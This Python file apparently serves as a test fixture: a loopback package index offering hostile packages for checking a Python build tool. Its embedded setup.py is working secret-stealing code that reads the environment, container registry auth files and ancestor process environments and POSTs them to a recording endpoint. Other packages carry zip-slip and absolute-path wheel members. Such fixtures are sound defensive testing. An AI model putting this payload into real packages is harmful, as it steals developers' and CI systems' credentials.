"""A package index on loopback (PEP 503 simple pages) serving packages that attack the builder:

  hostile-pkg 1.0  only an sdist; its setup.py, whenever it runs (metadata preparation or a
                   wheel build), gathers what it can see of the builder's secrets (the whole
                   environment, every docker/podman auth file it can guess or was told of,
                   /proc/<pid>/environ of its ancestors) and POSTs it to /record here, as
                   exfiltration would
  slip-pkg 1.0     a wheel with a zip-slip member (../../../tmp/slip-pkg-pwned)
  abs-pkg 1.0      a wheel with an absolute-path member (/tmp/abs-pkg-pwned)

    python3 hostile_index.py --port P --records FILE [--auth-file PATH]...

Each /record body (JSON) is appended as one line to FILE. Prints "ready" once listening.
"""
import argparse
import base64
import hashlib
import http.server
import io
import json
import tarfile
import zipfile

SETUP_PY = r'''
import glob, json, os, urllib.request
from setuptools import setup

seen = {"env": dict(os.environ), "files": {}, "proc": {}}
guesses = AUTH_FILES + [
    os.path.expanduser("~/.docker/config.json"),
    "/root/.docker/config.json",
    "/home/nonroot/.docker/config.json",
    "/run/containers/0/auth.json",
    "/run/containers/65532/auth.json",
] + glob.glob("/tmp/**/config.json", recursive=True) + glob.glob("/tmp/**/auth.json", recursive=True)
for p in guesses:
    try:
        with open(p) as f:
            seen["files"][p] = f.read()
    except OSError as e:
        seen["files"][p] = "denied: " + type(e).__name__
pid = os.getppid()
for _ in range(8):
    try:
        with open("/proc/%d/environ" % pid, "rb") as f:
            seen["proc"][str(pid)] = f.read().decode("utf-8", "replace")
        with open("/proc/%d/status" % pid) as f:
            pid = int([l for l in f if l.startswith("PPid:")][0].split()[1])
    except (OSError, IndexError, ValueError) as e:
        seen["proc"][str(pid)] = "denied: " + type(e).__name__
        break
    if pid <= 1:
        break
try:
    urllib.request.urlopen(urllib.request.Request(RECORD_URL, data=json.dumps(seen).encode(), method="POST"), timeout=10)
except Exception:
    pass
setup(name="hostile-pkg", version="1.0", py_modules=["hostile_pkg"])
'''


def sdist(record_url, auth_files):
    files = {
        "setup.py": f"AUTH_FILES = {auth_files!r}\nRECORD_URL = {record_url!r}\n" + SETUP_PY,
        "hostile_pkg.py": "VALUE = 1\n",
        # Metadata 1.0: uv cannot read it statically, so it runs setup.py (as for old sdists).
        "PKG-INFO": "Metadata-Version: 1.0\nName: hostile-pkg\nVersion: 1.0\n",
    }
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        for name, text in sorted(files.items()):
            data = text.encode()
            info = tarfile.TarInfo(f"hostile_pkg-1.0/{name}")
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return "hostile_pkg-1.0.tar.gz", buf.getvalue()


def wheel(name, evil_member):
    dist = f"{name.replace('-', '_')}-1.0.dist-info"
    mod = name.replace("-", "_")
    files = {
        f"{mod}/__init__.py": b"VALUE = 1\n",
        f"{dist}/METADATA": f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n".encode(),
        f"{dist}/WHEEL": b"Wheel-Version: 1.0\nGenerator: hostile_index\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
        evil_member: b"pwned\n",
    }
    record = "".join(
        f"{k},sha256={base64.urlsafe_b64encode(hashlib.sha256(v).digest()).rstrip(b'=').decode()},{len(v)}\n"
        for k, v in files.items()
    ) + f"{dist}/RECORD,,\n"
    files[f"{dist}/RECORD"] = record.encode()
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for k, v in files.items():
            z.writestr(zipfile.ZipInfo(k, (2020, 1, 1, 0, 0, 0)), v)
    return f"{mod}-1.0-py3-none-any.whl", buf.getvalue()


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--records", required=True)
    ap.add_argument("--auth-file", action="append", default=[])
    a = ap.parse_args()
    record_url = f"http://127.0.0.1:{a.port}/record"
    packages = {
        "hostile-pkg": sdist(record_url, a.auth_file),
        "slip-pkg": wheel("slip-pkg", "../../../tmp/slip-pkg-pwned"),
        "abs-pkg": wheel("abs-pkg", "/tmp/abs-pkg-pwned"),
    }
    files = {fname: data for fname, data in packages.values()}

    class Handler(http.server.BaseHTTPRequestHandler):
        def log_message(self, *args):
            pass

        def reply(self, status, body, ctype="text/html"):
            self.send_response(status)
            self.send_header("Content-Type", ctype)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            if self.command != "HEAD":
                self.wfile.write(body)

        def do_GET(self):
            parts = [p for p in self.path.split("?")[0].split("/") if p]
            if parts[:1] == ["simple"] and len(parts) == 2 and parts[1] in packages:
                fname, data = packages[parts[1]]
                sha = hashlib.sha256(data).hexdigest()
                body = f'<html><body><a href="/files/{fname}#sha256={sha}">{fname}</a></body></html>'
                return self.reply(200, body.encode())
            if parts[:1] == ["files"] and len(parts) == 2 and parts[1] in files:
                return self.reply(200, files[parts[1]], "application/octet-stream")
            self.reply(404, b"not here")

        do_HEAD = do_GET

        def do_POST(self):
            n = int(self.headers.get("Content-Length") or 0)
            body = self.rfile.read(n)
            with open(a.records, "ab") as f:
                f.write(body.replace(b"\n", b" ") + b"\n")
            self.reply(200, b"ok")

    server = http.server.ThreadingHTTPServer(("127.0.0.1", a.port), Handler)
    print("ready", flush=True)
    server.serve_forever()


if __name__ == "__main__":
    main()
